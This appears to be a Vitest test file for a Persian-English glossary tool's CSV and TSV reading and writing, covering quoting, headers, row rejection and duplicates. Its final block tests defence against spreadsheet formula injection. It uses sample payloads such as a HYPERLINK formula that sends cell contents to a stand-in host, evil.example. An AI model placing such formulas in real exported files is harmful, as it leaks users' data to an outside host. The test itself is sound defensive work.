import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { csvRecords } from '../../../../src/core/formats/glossary/csv';
import { parseGlossary, writeGlossary } from '../../../../src/core/formats/glossary';
import type { AppError } from '../../../../src/shared/errors';
import { SAMPLE } from './sample-entries';

const fixture = (name: string): string => readFileSync(new URL(`../../../fixtures/glossary/${name}`, import.meta.url), 'utf8');
const parse = (text: string) => parseGlossary(text, 'g.csv', 'csv');
const thrown = (f: () => unknown): AppError => {
  try {
    f();
  } catch (err) {
    return err as AppError;
  }
  throw new Error('expected an error');
};

describe('CSV records (RFC 4180)', () => {
  it('splits quoted cells holding commas, doubled quotes and line breaks, and counts lines across them', () => {
    const text = 'a,b,c\r\n"x, y","say ""hi""","two\nlines"\n"",last,\n\nq,"r\r\ns",t';
    expect([...csvRecords(text, 'f')]).toEqual([
      { line: 1, cells: ['a', 'b', 'c'] },
      { line: 2, cells: ['x, y', 'say "hi"', 'two\nlines'] },
      { line: 4, cells: ['', 'last', ''] },
      { line: 6, cells: ['q', 'r\r\ns', 't'] },
    ]);
  });

  it('names the line of an unclosed quote', () => {
    const err = thrown(() => [...csvRecords('a,b\nc,"never\nclosed', 'f.csv')]);
    expect(err.code).toBe('parse');
    expect(err.params).toEqual({ file: 'f.csv', line: 2, reason: 'a quoted cell is never closed' });
  });

  it('rejects text glued to a closing quote instead of guessing', () => {
    const err = thrown(() => [...csvRecords('a,b\n"x"y,z', 'f.csv')]);
    expect(err.params).toEqual({ file: 'f.csv', line: 2, reason: 'unexpected "y" after a closing quote' });
  });
});

describe('CSV glossary', () => {
  it('writes a header that round-trips and quotes only what needs it', () => {
    const text = [...writeGlossary(SAMPLE, 'csv', { createdAt: new Date(0), tool: 't' })].join('');
    // A comment line, so OmegaT's CSV reader does not take it for a term (issue 13.4).
    expect(text.startsWith('\ufeff# fa,en,comment,entry,key,subject,')).toBe(true);
    expect(text).toContain('"Tabs\tand CR\r\nand a backslash \\ and <tags> & ""quotes"", commas"');
    expect(text).toContain('\r\nسرلشکر,Major General,');
  });

  it('recognises other tools\' header names, ";" delimiters, a BOM and multi-line quoted notes', () => {
    const g = parse(fixture('sheet-semicolon.csv'));
    expect(g.rejected).toEqual([]);
    expect(g.entries).toEqual([
      {
        where: 'line 2',
        externalId: undefined,
        entry: {
          subject: 'politics',
          note: 'cabinet post;\r\nnot "Defense"',
          terms: [
            { lang: 'fa', text: 'وزیر دفاع', status: 'preferred' },
            { lang: 'en', text: 'Minister of Defence', status: 'preferred' },
          ],
        },
      },
      {
        where: 'line 4',
        externalId: undefined,
        entry: {
          subject: 'rank',
          terms: [
            { lang: 'fa', text: 'ارتشبد', status: 'preferred' },
            { lang: 'en', text: 'General of the Army', status: 'admitted' },
          ],
        },
      },
    ]);
  });

  it('rejects empty Persian or English cells and unknown values, by line', () => {
    const g = parse('fa,en,status,subject\n,Orphan,,\nبی‌ترجمه,"",,\nسپاه,IRGC,maybe,\nسردار,General,,navy\nوزیر,Minister,,\n');
    expect(g.entries.map((e) => e.where)).toEqual(['line 5', 'line 6']);
    // Another tool's subject is no reason to refuse a row: it files under "general" and stays in the note.
    expect(g.entries[0]!.entry).toMatchObject({ subject: 'general', note: 'Subject field: navy' });
    expect(g.rejected).toEqual([
      { where: 'line 2', reason: 'empty Persian cell' },
      { where: 'line 3', reason: 'empty English cell' },
      { where: 'line 4', reason: 'unknown status "maybe" in column "status" (expected one of: preferred, admitted, deprecated, forbidden)' },
    ]);
  });

  it('reports duplicate rows, with the line of the first', () => {
    const g = parse('persian,english,note\nسپاه,IRGC,a\nوزیر,Minister,\n"سپاه","IRGC",b\n');
    expect(g.entries).toHaveLength(2);
    expect(g.rejected).toEqual([{ where: 'line 4', reason: 'duplicate of line 2 (same Persian and English terms)' }]);
  });

  it('groups rows by an entry column into one entry with several terms', () => {
    const g = parse('id,fa,en,en-status\n7,سپاه,IRGC,\n7,سپاه,Revolutionary Guards,deprecated\n8,وزیر,Minister,\n');
    expect(g.rejected).toEqual([]);
    expect(g.entries[0]).toEqual({
      where: 'lines 2, 3',
      externalId: '7',
      entry: {
        subject: 'general',
        terms: [
          { lang: 'fa', text: 'سپاه', status: 'preferred' },
          { lang: 'en', text: 'IRGC', status: 'preferred' },
          { lang: 'en', text: 'Revolutionary Guards', status: 'deprecated' },
        ],
      },
    });
  });

  it('reads a headerless OmegaT CSV (Persian first) positionally', () => {
    const g = parse('سپاه,IRGC,short form\nوزیر,Minister,\n');
    expect(g.entries.map((e) => [e.entry.terms[0]?.text, e.entry.terms[1]?.text, e.entry.note])).toEqual([
      ['سپاه', 'IRGC', 'short form'],
      ['وزیر', 'Minister', undefined],
    ]);
  });

  it('throws a whole-file error for a missing or incomplete header', () => {
    expect(thrown(() => parse('foo,bar\nx,y\n')).params).toEqual({
      file: 'g.csv',
      line: 1,
      reason: 'the first row is not a header: name the columns, e.g. "fa,en,note"',
    });
    expect(thrown(() => parse('Persian,Note\nسپاه,x\n')).params.reason).toBe(
      'the header names no English column (en, english or target)',
    );
    expect(thrown(() => parse('fa,en,note,notes\n')).params.reason).toBe('columns 3 ("note") and 4 ("notes") mean the same thing');
  });

  it('reads our commented header as the header, and skips "#" comment lines before it (issue 13.4)', () => {
    const g = parse('# exported by someone\n# fa,en,note\nسپاه,IRGC,short form\n');
    expect(g.rejected).toEqual([]);
    expect(g.entries.map((e) => [e.where, e.entry.terms.map((t) => t.text), e.entry.note])).toEqual([
      ['line 3', ['سپاه', 'IRGC'], 'short form'],
    ]);
  });
});

describe('spreadsheet formula injection in glossary CSV and TSV (issue 13.14)', () => {
  const nasty = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+98 21 1234',
    '-ها',
    '@SUM(1)',
    "'=already quoted",
    "'plain apostrophe",
  ];
  const entries = nasty.map((note, i) => ({
    subject: 'general' as const,
    note,
    terms: [
      { lang: 'fa' as const, text: `سپاه ${i}`, status: 'preferred' as const },
      { lang: 'en' as const, text: i === 1 ? '=1+1' : `IRGC ${i}`, status: 'preferred' as const },
    ],
  }));

  for (const format of ['csv', 'tsv'] as const) {
    it(`${format}: no cell starts with = + - @, and our reader gets the original text back`, () => {
      const text = [...writeGlossary(entries, format, { createdAt: new Date(0), tool: 't' })].join('');
      const sep = format === 'csv' ? ',' : '\t';
      const cells = text
        .split(/\r?\n/)
        .filter((l) => l !== '' && !l.startsWith('#') && !l.startsWith('\ufeff'))
        .flatMap((l) => l.split(sep))
        .map((c) => c.replace(/^"/, ''));
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(cells).toContain("'=1+1");
      const back = parseGlossary(text, `g.${format}`, format);
      expect(back.rejected).toEqual([]);
      expect(back.entries.map((e) => e.entry.note)).toEqual(nasty);
      expect(back.entries[1]!.entry.terms.find((t) => t.lang === 'en')?.text).toBe('=1+1');
    });
  }

  it("keeps a leading quote in someone else's CSV as written", () => {
    const g = parse("fa,en,note\nسپاه,IRGC,'=x\n");
    expect(g.entries[0]!.entry.note).toBe("'=x");
  });
});
